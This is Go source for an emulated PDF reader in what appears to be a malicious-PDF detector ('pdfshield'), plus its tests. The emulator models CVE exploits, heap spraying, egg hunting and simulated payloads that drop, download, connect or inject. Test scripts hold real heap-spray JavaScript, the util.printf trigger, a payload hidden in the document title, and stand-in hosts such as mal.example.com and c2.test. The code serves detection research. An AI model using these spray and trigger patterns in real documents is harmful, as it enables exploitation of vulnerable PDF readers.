	if dec.Action != hook.ActionAllow {
		return false
	}
	p.os.WriteFile(path, data)
	return true
}

func (p *Process) sysDownloadToFile(url, path string, data []byte) bool {
	host := hostOf(url)
	if p.sysConnect(host) {
		p.os.RecordConnection(host)
	}
	dec := p.apiCall("URLDownloadToFileA", url, path)
	if dec.Action != hook.ActionAllow {
		return false
	}
	p.os.WriteFile(path, data)
	return true
}

func (p *Process) sysConnect(hostport string) bool {
	dec := p.apiCall("connect", hostport)
	if dec.Action != hook.ActionAllow {
		return false
	}
	p.os.RecordConnection(hostport)
	return true
}

func (p *Process) sysListen(port string) bool {
	dec := p.apiCall("listen", port)
	if dec.Action != hook.ActionAllow {
		return false
	}
	p.os.RecordListen(atoiSafe(port))
	return true
}

func (p *Process) sysCreateProcess(path string) bool {
	dec := p.apiCall("NtCreateProcess", path)
	if dec.Action != hook.ActionAllow {
		// ActionSandbox: the detector launches the target inside the
		// sandbox itself (Table III); nothing happens in this process.
		return false
	}
	p.os.Spawn(path, p.PID, false)
	return true
}

func (p *Process) sysInjectDLL(dll string) bool {
	dec := p.apiCall("CreateRemoteThread", dll)
	if dec.Action != hook.ActionAllow {
		return false
	}
	p.os.RecordInjection(dll)
	return true
}

// emitMemSample reports a synthetic memory reading at JS context
// boundaries (the hook DLL reads PROCESS_MEMORY_COUNTERS_EX there).
func (p *Process) emitMemSample() {
	p.apiCall("ctx.mem")
}

func hostOf(url string) string {
	u := url
	if idx := strings.Index(u, "://"); idx >= 0 {
		u = u[idx+3:]
	}
	if idx := strings.IndexByte(u, '/'); idx >= 0 {
		u = u[:idx]
	}
	if !strings.Contains(u, ":") {
		u += ":80"
	}
	return u
}

func atoiSafe(s string) int {
	n := 0
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return n
		}
		n = n*10 + int(s[i]-'0')
	}
	return n
}

// ---- document opening ----

// Open parses and renders a document: triggers its Javascript, runs timers
// and dynamically added scripts, then renders embedded content (where the
// out-of-JS-context exploits live).
func (p *Process) Open(id string, raw []byte, opts OpenOptions) (*OpenResult, error) {
	if p.crashed {
		return nil, fmt.Errorf("open %s: process has crashed", id)
	}
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return nil, fmt.Errorf("open %s: %w", id, err)
	}
	if doc.IsEncrypted() {
		// The reader can display owner-password documents (empty user
		// password); decrypt for rendering.
		if err := pdf.RemoveOwnerPassword(doc); err != nil {
			return nil, fmt.Errorf("open %s: %w", id, err)
		}
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		return nil, fmt.Errorf("open %s: %w", id, err)
	}

	od := &OpenDoc{ID: id, Doc: doc, Chains: chains, proc: p}
	od.memMB = perDocFixedMB + minf(float64(len(raw))/(1<<20)*perDocPerMB, perDocCapMB)
	p.docsMemMB += od.memMB
	if opts.OptimizeHint && !p.compacted && p.docsMemMB > compactAtMB {
		// The memory-optimization drop one document exhibits in Figure 8.
		p.docsMemMB *= compactFactor
		p.compacted = true
	}
	p.docs = append(p.docs, od)

	od.force = opts.ForceExec
	od.interp = p.newDocInterp(od)
	od.eggData = extractEgg(doc)

	p.runDocScripts(od)
	if !p.crashed {
		p.renderEmbedded(od)
	}
	if !p.crashed && opts.SpawnHelper {
		p.sysCreateProcess(helperExeName)
	}

	res := &OpenResult{
		DocID:               id,
		Crashed:             p.crashed,
		JSRuns:              od.jsRuns,
		ScriptErrors:        od.jsErrs,
		Exploits:            od.exploits,
		MemAfterMB:          p.MemMB(),
		JSHeapMB:            float64(od.heapBytes) / (1 << 20),
		DeepPaths:           od.deepPaths,
		DeepCrashedPaths:    od.deepCrashed,
		DeepBudgetExhausted: od.deepExhausted,
	}
	return res, nil
}

// CloseDoc releases a document's memory (reader keeps running).
func (p *Process) CloseDoc(id string) {
	for i, od := range p.docs {
		if od.ID == id {
			p.docsMemMB -= od.memMB
			p.jsHeapBytes -= od.heapBytes
			p.docs = append(p.docs[:i], p.docs[i+1:]...)
			return
		}
	}
}

func minf(a, b float64) float64 {
	if a < b {
		return a
	}
	return b
}

// runDocScripts executes the document's triggered scripts in holder order,
// then timers, then dynamically added scripts, looping until the dynamic
// queue drains (staged attacks add stages from within stages).
func (p *Process) runDocScripts(od *OpenDoc) {
	sequential := make(map[int]bool)
	for _, c := range od.Chains.Chains {
		for _, n := range c.NextNums {
			sequential[n] = true
		}
	}
	chainByHolder := make(map[int]*pdf.JSChain)
	for i := range od.Chains.Chains {
		chainByHolder[od.Chains.Chains[i].Holder] = &od.Chains.Chains[i]
	}
	for i := range od.Chains.Chains {
		chain := &od.Chains.Chains[i]
		if !chain.Triggered || sequential[chain.Holder] {
			continue
		}
		p.execScript(od, chain.Source)
		if p.crashed {
			return
		}
		for _, next := range chain.NextNums {
			if nc, ok := chainByHolder[next]; ok {
				p.execScript(od, nc.Source)
				if p.crashed {
					return
				}
			}
		}
	}
	for round := 0; round < maxDynamicRounds; round++ {
		timers := od.timers
		dynamic := od.dynamic
		od.timers = nil
		od.dynamic = nil
		if len(timers) == 0 && len(dynamic) == 0 {
			return
		}
		for _, tm := range timers {
			p.execScript(od, tm.code)
			if p.crashed {
				return
			}
		}
		for _, code := range dynamic {
			p.execScript(od, code)
			if p.crashed {
				return
			}
		}
	}
}

// execScript runs one script body in the document's interpreter.
func (p *Process) execScript(od *OpenDoc, source string) {
	if strings.TrimSpace(source) == "" {
		return
	}
	if od.force != nil {
		p.execScriptForced(od, source)
		return
	}
	od.jsRuns++
	_, err := od.interp.Run(source)
	if err != nil {
		if fe, ok := errAsFatal(err); ok {
			p.crashed = true
			od.jsErrs = append(od.jsErrs, "process crash: "+fe.Error())
			return
		}
		od.jsErrs = append(od.jsErrs, err.Error())
	}
}

// execScriptForced is the deep-scan variant of execScript: the script is
// re-executed under forced branch decisions so gated payloads run too.
// Distinct sources are explored once per open (forced paths re-register
// timers and dynamic scripts on every path, so without dedup the dynamic
// rounds would multiply). Error and crash semantics follow the natural
// path only — a crash on a forced path is an emulated process death the
// explorer recovers from, recorded in the deep counters and observable
// to the detector through the hooked APIs the path touched before dying.
func (p *Process) execScriptForced(od *OpenDoc, source string) {
	if od.deepSeen == nil {
		od.deepSeen = make(map[string]bool)
	}
	if od.deepSeen[source] {
		return
	}
	od.deepSeen[source] = true
	od.jsRuns++
	crashedBefore := p.crashed
	res := od.interp.ExploreForced(*od.force, func() error {
		_, err := od.interp.Run(source)
		return err
	})
	od.deepPaths += res.Paths
	od.deepCrashed += res.CrashedPaths
	if res.Exhausted() {
		od.deepExhausted++
	}
	naturalFatal := false
	if err := res.NaturalErr; err != nil {
		if fe, ok := errAsFatal(err); ok {
			naturalFatal = true
			od.jsErrs = append(od.jsErrs, "process crash: "+fe.Error())
		} else {
			od.jsErrs = append(od.jsErrs, err.Error())
		}
	}
	if naturalFatal {
		p.crashed = true
	} else {
		// vulnCall flags the process crashed before its FatalError unwinds;
		// when only forced paths died, the natural open survived.
		p.crashed = crashedBefore
	}
}

func errAsFatal(err error) (*js.FatalError, bool) {
	var fe *js.FatalError
	if errors.As(err, &fe) {
		return fe, true
	}
	return nil, false
}

// renderEmbedded processes embedded Flash/font content; malformed content
// (carrying a payload program) triggers the out-of-JS-context exploits.
func (p *Process) renderEmbedded(od *OpenDoc) {
	for _, num := range od.Doc.Numbers() {
		obj, _ := od.Doc.Get(num)
		stream, ok := obj.Object.(*pdf.Stream)
		if !ok {
			continue
		}
		subtype, _ := stream.Dict.Get("Subtype").(pdf.Name)
		var cve string
		switch subtype {
		case "Flash":
			cve = CVE20103654
		case "TrueType", "CIDFontType0C", "Type1C":
			cve = CVE20102883
		case "XFA", "JBIG2":
			cve = CVE20130640
		default:
			continue
		}
		data, _, err := pdf.DecodeChain(stream)
		if err != nil {
			continue
		}
		ops, hasPayload := DecodePayload(string(data))
		if !hasPayload {
			continue // well-formed embedded content
		}
		p.attemptExploit(od, cve, ops, false)
		if p.crashed {
			return
		}
	}
}

// attemptExploit models the hijack: version gate, spray coverage check,
// then shellcode execution or crash.
func (p *Process) attemptExploit(od *OpenDoc, cve string, payloadFromContent []PayloadOp, inJS bool) ExploitStage {
	spec, ok := vulnDB[cve]
	if !ok {
		return StageNotVulnerable
	}
	if !spec.Affects(p.cfg.ViewerVersion) {
		od.exploits = append(od.exploits, ExploitEvent{CVE: cve, Stage: StageNotVulnerable, InJS: inJS})
		return StageNotVulnerable
	}
	// Coverage: allocations fill the address space from heapBase upward;
	// the hijack lands at spec.Target.
	heapTop := uint64(heapBase) + uint64(p.jsHeapBytes)
	if heapTop <= spec.Target {
		od.exploits = append(od.exploits, ExploitEvent{CVE: cve, Stage: StageCrash, InJS: inJS})
		p.crashed = true
		return StageCrash
	}
	ops := payloadFromContent
	if ops == nil {
		ops = od.findSprayPayload()
	}
	if ops == nil {
		// Landed in spray but no decodable payload: garbage execution.
		od.exploits = append(od.exploits, ExploitEvent{CVE: cve, Stage: StageCrash, InJS: inJS})
		p.crashed = true
		return StageCrash
	}
	od.exploits = append(od.exploits, ExploitEvent{CVE: cve, Stage: StageShellcode, InJS: inJS, Payload: ops})
	p.runPayload(od, ops)
	return StageShellcode
}

// findSprayPayload scans recently sprayed blocks for the payload program.
func (od *OpenDoc) findSprayPayload() []PayloadOp {
	for i := len(od.sprayBlocks) - 1; i >= 0; i-- {
		if ops, ok := DecodePayload(od.sprayBlocks[i]); ok {
			return ops
		}
	}
	return nil
}

// runPayload executes a shellcode op program with system-level effects.
func (p *Process) runPayload(od *OpenDoc, ops []PayloadOp) {
	for _, op := range ops {
		switch op.Kind {
		case OpDrop:
			p.sysCreateFile(argOr(op.Args, 0, `C:\tmp\dropped.exe`), fakeExecutable(od.ID))
		case OpDownload:
			url := argOr(op.Args, 0, "http://mal.example.com/payload.exe")
			path := argOr(op.Args, 1, `C:\tmp\downloaded.exe`)
			p.sysDownloadToFile(url, path, fakeExecutable(od.ID))
		case OpExec:
			p.sysCreateProcess(argOr(op.Args, 0, `C:\tmp\dropped.exe`))
		case OpConnect:
			p.sysConnect(argOr(op.Args, 0, "c2.example.com:443"))
		case OpListen:
			p.sysListen(argOr(op.Args, 0, "4444"))
		case OpEggHunt:
			p.runEggHunt(od, argOr(op.Args, 0, `C:\tmp\egg.exe`))
		case OpInject:
			p.sysInjectDLL(argOr(op.Args, 0, `C:\tmp\evil.dll`))
		}
	}
}

// runEggHunt emits the memory-search syscall pattern of §III-D, then drops
// and runs the egg embedded in the document.
func (p *Process) runEggHunt(od *OpenDoc, dropPath string) {
	searchAPIs := []string{"NtAccessCheckAndAuditAlarm", "IsBadReadPtr", "NtDisplayString", "NtAddAtom"}
	for i := 0; i < eggHuntProbes; i++ {
		p.apiCall(searchAPIs[i%len(searchAPIs)], fmt.Sprintf("0x%08x", heapBase+i*0x100000))
	}
	egg := od.eggData
	if egg == nil {
		egg = fakeExecutable(od.ID)
	}
	p.sysCreateFile(dropPath, egg)
	p.sysCreateProcess(dropPath)
}

func argOr(args []string, i int, def string) string {
	if i < len(args) && args[i] != "" {
		return args[i]
	}
	return def
}

// fakeExecutable synthesizes MZ-prefixed bytes for dropped malware.
func fakeExecutable(seed string) []byte {
	return append([]byte("MZ\x90\x00pdfshield-sim:"), []byte(seed)...)
}

// extractEgg finds an embedded egg (an /EmbeddedFile stream whose data
// starts with the egg tag) used by egg-hunt samples.
func extractEgg(doc *pdf.Document) []byte {
	for _, num := range doc.Numbers() {
		obj, _ := doc.Get(num)
		stream, ok := obj.Object.(*pdf.Stream)
		if !ok {
			continue
		}
		if t, _ := stream.Dict.Get("Type").(pdf.Name); t != "EmbeddedFile" {
			continue
		}
		data, _, err := pdf.DecodeChain(stream)
		if err != nil {
			continue
		}
		if strings.HasPrefix(string(data), "EGG!") {
			return data[4:]
		}
	}
	return nil
}
