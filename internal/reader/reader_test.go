package reader

import (
	"strings"
	"testing"

	"pdfshield/internal/hook"
	"pdfshield/internal/pdf"
	"pdfshield/internal/winos"
)

// buildJSDoc wraps a script in a minimal OpenAction document.
func buildJSDoc(t *testing.T, script string) []byte {
	t.Helper()
	d := pdf.NewDocument()
	js := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": js})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}, "Count": pdf.Integer(1)})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	data, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// sprayScript returns the canonical heap-spray + exploit trigger. The sled
// uses ASCII formfeed bytes so tests stay cheap; the coverage model only
// cares about allocated UTF-16 units.
func sprayScript(payload, trigger string) string {
	return `
var payload = "` + payload + `|";
var nop = unescape("%0c%0c%0c%0c");
while (nop.length < 524288) nop += nop;
var blocks = [];
for (var i = 0; i < 230; i++) blocks[i] = nop + payload;
` + trigger
}

const dropExecPayload = `PAYLOAD:DROP=C:\\tmp\\mal.exe;EXEC=C:\\tmp\\mal.exe`

func TestBenignScriptNoEvents(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})
	res, err := p.Open("benign", buildJSDoc(t, `
var total = 0;
for (var i = 0; i < 100; i++) total += i;
app.alert(util.printf("total=%d", total));
var when = util.printd("yyyy/mm/dd", 0);
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatal("benign doc crashed")
	}
	if len(res.ScriptErrors) != 0 {
		t.Fatalf("script errors: %v", res.ScriptErrors)
	}
	if len(sink.Events()) != 0 {
		t.Errorf("benign doc produced %d hooked events: %+v", len(sink.Events()), sink.Events())
	}
	if res.JSHeapMB > 1 {
		t.Errorf("benign JS heap = %.2f MB", res.JSHeapMB)
	}
}

func TestHeapSprayExploitDropsAndExecutes(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("mal", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("exploit should succeed, crashed instead: %v", res.ScriptErrors)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if res.Exploits[0].CVE != CVE20082992 || !res.Exploits[0].InJS {
		t.Errorf("exploit detail = %+v", res.Exploits[0])
	}
	if !p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("malware not dropped")
	}
	var behaviors []hook.Behavior
	for _, ev := range sink.Events() {
		behaviors = append(behaviors, ev.Behavior())
	}
	wantDrop, wantProc := false, false
	for _, b := range behaviors {
		if b == hook.BehaviorMalwareDropping {
			wantDrop = true
		}
		if b == hook.BehaviorProcessCreation {
			wantProc = true
		}
	}
	if !wantDrop || !wantProc {
		t.Errorf("behaviors = %v", behaviors)
	}
	if res.JSHeapMB < 100 {
		t.Errorf("spray JS heap = %.1f MB, want >= 100 (paper's F8 threshold)", res.JSHeapMB)
	}
	procs := p.OS().AliveProcesses()
	found := false
	for _, proc := range procs {
		if strings.Contains(proc.Path, "mal.exe") {
			found = true
		}
	}
	if !found {
		t.Error("dropped malware not executing")
	}
}

func TestExploitNotVulnerableVersionDoesNothing(t *testing.T) {
	sink := &hook.RecordingSink{}
	// CVE-2008-2992 is fixed in 9.0.
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})
	res, err := p.Open("mal", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatal("not-vulnerable call must not crash")
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageNotVulnerable {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	for _, ev := range sink.Events() {
		if ev.Behavior() == hook.BehaviorMalwareDropping || ev.Behavior() == hook.BehaviorProcessCreation {
			t.Errorf("unexpected event %v", ev)
		}
	}
	if !p.OS().FileExists(`C:\tmp\mal.exe`) == false {
		t.Error("malware dropped despite patched version")
	}
}

func TestInsufficientSprayCrashes(t *testing.T) {
	p := NewProcess(Config{ViewerVersion: 8.0})
	// Tiny spray: hijack misses, process crashes.
	res, err := p.Open("weak", buildJSDoc(t, `
var nop = unescape("%0c%0c");
while (nop.length < 4096) nop += nop;
var blocks = [];
for (var i = 0; i < 3; i++) blocks[i] = nop + "`+dropExecPayload+`|";
util.printf("%45000f", 1.2);
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Crashed {
		t.Fatal("expected crash")
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageCrash {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("crash must not drop malware")
	}
	if _, err := p.Open("after", buildJSDoc(t, "1;"), OpenOptions{}); err == nil {
		t.Error("crashed process should refuse further opens")
	}
}

func TestCrashSkipsFinally(t *testing.T) {
	// The epilogue of instrumented code must NOT run when the process
	// crashes mid-script (control never returns).
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("crash", buildJSDoc(t, `
var ran = 0;
try {
  util.printf("%45000f", 1.2);
  ran = 1;
} finally {
  Collab.collectEmailInfo();
}
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Crashed {
		t.Fatal("expected crash (no spray at all)")
	}
}

func TestOutOfJSFlashExploit(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 9.0})

	// Document: JS only sprays (no vulnerable JS call); a malformed Flash
	// stream carries the payload and triggers after JS finishes.
	d := pdf.NewDocument()
	js := d.Add(pdf.String{Value: []byte(sprayScript("", ""))})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": js})
	flashPayload := "malformed-swf " + EncodePayload([]PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\tmp\flash.exe`}},
		{Kind: OpExec, Args: []string{`C:\tmp\flash.exe`}},
	}) + "|trailer"
	flash := d.Add(&pdf.Stream{Dict: pdf.Dict{"Subtype": pdf.Name("Flash")}, Raw: []byte(flashPayload)})
	annot := d.Add(pdf.Dict{"Type": pdf.Name("Annot"), "FS": flash})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page"), "Annots": pdf.Array{annot}})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	res, err := p.Open("flashdoc", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("crash: %v", res.ScriptErrors)
	}
	var ev *ExploitEvent
	for i := range res.Exploits {
		if res.Exploits[i].CVE == CVE20103654 {
			ev = &res.Exploits[i]
		}
	}
	if ev == nil || ev.Stage != StageShellcode {
		t.Fatalf("flash exploit = %+v", res.Exploits)
	}
	if ev.InJS {
		t.Error("flash exploit should run out of JS context")
	}
	if !p.OS().FileExists(`C:\tmp\flash.exe`) {
		t.Error("flash payload not executed")
	}
}

func TestEggHuntEmitsMemorySearch(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})

	d := pdf.NewDocument()
	egg := d.Add(&pdf.Stream{Dict: pdf.Dict{"Type": pdf.Name("EmbeddedFile")}, Raw: []byte("EGG!MZ-real-malware-bytes")})
	script := sprayScript(`PAYLOAD:EGGHUNT=C:\\tmp\\egg.exe`, `util.printf("%45000f", 1.2);`)
	jsObj := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsObj})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action, "EmbeddedFile": egg})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	res, err := p.Open("egghunt", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Crashed {
		t.Fatalf("crash: %v", res.ScriptErrors)
	}
	searches := 0
	for _, ev := range sink.Events() {
		if ev.Behavior() == hook.BehaviorMappedMemorySearch {
			searches++
		}
	}
	if searches < 4 {
		t.Errorf("memory-search probes = %d, want >= 4", searches)
	}
	data, ok := p.OS().ReadFile(`C:\tmp\egg.exe`)
	if !ok {
		t.Fatal("egg not dropped")
	}
	if string(data) != "MZ-real-malware-bytes" {
		t.Errorf("egg content = %q", data)
	}
}

func TestSetTimeOutDelayedExecution(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink, ViewerVersion: 8.0})
	res, err := p.Open("delayed", buildJSDoc(t,
		sprayScript(dropExecPayload, `app.setTimeOut("util.printf('%45000f', 1.2);", 1000);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("delayed exploit = %+v", res.Exploits)
	}
	if res.JSRuns != 2 {
		t.Errorf("JSRuns = %d, want 2 (main + timer)", res.JSRuns)
	}
}

func TestAddScriptStagedExecution(t *testing.T) {
	p := NewProcess(Config{ViewerVersion: 8.0})
	res, err := p.Open("staged", buildJSDoc(t,
		sprayScript(dropExecPayload, `this.addScript("s2", "util.printf('%45000f', 1.2);");`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("staged exploit = %+v", res.Exploits)
	}
}

func TestNetHTTPForbidden(t *testing.T) {
	p := NewProcess(Config{})
	res, err := p.Open("net", buildJSDoc(t, `
var blocked = 0;
try { Net.HTTP.request({cURL: "http://x.example.com"}); } catch (e) { blocked = 1; }
if (blocked != 1) throw "Net.HTTP should be forbidden";
`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 0 {
		t.Errorf("errors: %v", res.ScriptErrors)
	}
}

func TestSOAPToForeignHostIsNetworkAccess(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink})
	res, err := p.Open("soapdoc", buildJSDoc(t,
		`SOAP.request({cURL: "http://webservice.example.com/soap", oRequest: {q: 1}});`), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 0 {
		t.Errorf("errors: %v", res.ScriptErrors)
	}
	events := sink.Events()
	if len(events) != 1 || events[0].Behavior() != hook.BehaviorNetworkAccess {
		t.Errorf("events = %+v", events)
	}
}

func TestMemoryGrowsLinearlyAcrossCopies(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	// Pad the document to a deterministic size (~1 MB).
	pad := make([]byte, 1<<20)
	for i := range pad {
		pad[i] = ' '
	}
	raw = append(raw, pad...)

	var readings []float64
	for i := 0; i < 10; i++ {
		res, err := p.Open("copy", raw, OpenOptions{})
		if err != nil {
			t.Fatal(err)
		}
		readings = append(readings, res.MemAfterMB)
	}
	for i := 1; i < len(readings); i++ {
		delta := readings[i] - readings[i-1]
		if delta <= 0 {
			t.Errorf("memory did not grow at copy %d: %v", i, readings)
		}
	}
	// Roughly linear: first and last deltas within 2x.
	d1 := readings[1] - readings[0]
	dn := readings[len(readings)-1] - readings[len(readings)-2]
	if dn > d1*2 || d1 > dn*2 {
		t.Errorf("growth not linear: first=%v last=%v", d1, dn)
	}
}

func TestMemoryOptimizationDrop(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	pad := make([]byte, 28<<20) // ~28MB file -> ~90MB per copy
	raw = append(raw, pad...)

	var prev float64
	dropped := false
	for i := 0; i < 12; i++ {
		res, err := p.Open("bigcopy", raw, OpenOptions{OptimizeHint: true})
		if err != nil {
			t.Fatal(err)
		}
		if prev > 0 && res.MemAfterMB < prev {
			dropped = true
		}
		prev = res.MemAfterMB
	}
	if !dropped {
		t.Error("optimization drop never occurred")
	}
}

func TestCloseDocReleasesMemory(t *testing.T) {
	p := NewProcess(Config{})
	raw := buildJSDoc(t, "1;")
	before := p.MemMB()
	if _, err := p.Open("tmp", raw, OpenOptions{}); err != nil {
		t.Fatal(err)
	}
	during := p.MemMB()
	p.CloseDoc("tmp")
	after := p.MemMB()
	if !(before < during) {
		t.Errorf("open did not grow memory: %v -> %v", before, during)
	}
	if after >= during {
		t.Errorf("close did not release memory: %v -> %v", during, after)
	}
}

func TestConfinementRejectStopsEffects(t *testing.T) {
	// A sink that rejects everything: no files, no processes.
	p := NewProcess(Config{Sink: rejectAllSink{}, ViewerVersion: 8.0})
	res, err := p.Open("confined", buildJSDoc(t, sprayScript(dropExecPayload, `util.printf("%45000f", 1.2);`)), OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("exploits = %+v", res.Exploits)
	}
	if p.OS().FileExists(`C:\tmp\mal.exe`) {
		t.Error("rejected drop still created file")
	}
	if n := len(p.OS().AliveProcesses()); n != 1 { // just the reader
		t.Errorf("alive processes = %d", n)
	}
}

type rejectAllSink struct{}

func (rejectAllSink) OnAPICall(hook.Event) (hook.Decision, error) {
	return hook.Decision{Action: hook.ActionReject}, nil
}
func (rejectAllSink) Close() error { return nil }

func TestSpawnHelperWhitelistNoise(t *testing.T) {
	sink := &hook.RecordingSink{}
	p := NewProcess(Config{Sink: sink})
	if _, err := p.Open("noisy", buildJSDoc(t, "1;"), OpenOptions{SpawnHelper: true}); err != nil {
		t.Fatal(err)
	}
	events := sink.Events()
	if len(events) != 1 || events[0].Behavior() != hook.BehaviorProcessCreation {
		t.Fatalf("events = %+v", events)
	}
	if !strings.Contains(events[0].Arg(0), "AdobeARM") {
		t.Errorf("helper path = %q", events[0].Arg(0))
	}
}

func TestPayloadCodecRoundTrip(t *testing.T) {
	ops := []PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\a.exe`}},
		{Kind: OpDownload, Args: []string{"http://evil.test/x.exe", `C:\x.exe`}},
		{Kind: OpExec, Args: []string{`C:\a.exe`}},
		{Kind: OpConnect, Args: []string{"c2.test:443"}},
		{Kind: OpListen, Args: []string{"4444"}},
		{Kind: OpEggHunt, Args: []string{`C:\egg.exe`}},
		{Kind: OpInject, Args: []string{`C:\evil.dll`}},
	}
	enc := EncodePayload(ops)
	sprayed := strings.Repeat("\x0c", 100) + enc + "|" + strings.Repeat("\x0c", 50)
	dec, ok := DecodePayload(sprayed)
	if !ok {
		t.Fatal("payload not found")
	}
	if len(dec) != len(ops) {
		t.Fatalf("decoded %d ops, want %d", len(dec), len(ops))
	}
	for i := range ops {
		if dec[i].Kind != ops[i].Kind || strings.Join(dec[i].Args, ",") != strings.Join(ops[i].Args, ",") {
			t.Errorf("op %d: got %v, want %v", i, dec[i], ops[i])
		}
	}
}

func TestDecodePayloadAbsent(t *testing.T) {
	if _, ok := DecodePayload("just spray bytes"); ok {
		t.Error("found payload where none exists")
	}
	if _, ok := DecodePayload("PAYLOAD:"); ok {
		t.Error("empty payload should not decode")
	}
}

func TestHiddenShellcodeInTitle(t *testing.T) {
	// The syntax-obfuscation trick from §II: payload hidden in the doc
	// title, referenced as this.info.title. Extraction-based detectors
	// lose it; our reader executes it faithfully.
	d := pdf.NewDocument()
	title := sprayPayloadTitle()
	info := d.Add(pdf.Dict{"Title": pdf.String{Value: []byte(title)}})
	script := `
var payload = this.info.title;
var nop = unescape("%0c%0c%0c%0c");
while (nop.length < 524288) nop += nop;
var blocks = [];
for (var i = 0; i < 230; i++) blocks[i] = nop + payload + "|";
util.printf("%45000f", 1.2);
`
	jsObj := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsObj})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	d.Trailer["Info"] = info
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := NewProcess(Config{ViewerVersion: 8.0})
	res, err := p.Open("titledoc", raw, OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Exploits) != 1 || res.Exploits[0].Stage != StageShellcode {
		t.Fatalf("title-hidden exploit = %+v (errs %v)", res.Exploits, res.ScriptErrors)
	}
	if !p.OS().FileExists(`C:\tmp\title.exe`) {
		t.Error("title payload not executed")
	}
}

func sprayPayloadTitle() string {
	return EncodePayload([]PayloadOp{
		{Kind: OpDrop, Args: []string{`C:\tmp\title.exe`}},
		{Kind: OpExec, Args: []string{`C:\tmp\title.exe`}},
	})
}

func TestReaderOSIsolationHelpers(t *testing.T) {
	osState := winos.NewOS()
	osState.WriteFile(`C:\tmp\q.exe`, []byte("MZ"))
	if !osState.Quarantine(`C:\tmp\q.exe`, "alert") {
		t.Fatal("quarantine failed")
	}
	if osState.FileExists(`C:\tmp\q.exe`) {
		t.Error("file visible after quarantine")
	}
	if reason, ok := osState.Quarantined(`C:\tmp\q.exe`); !ok || reason != "alert" {
		t.Errorf("quarantine record = %q %v", reason, ok)
	}
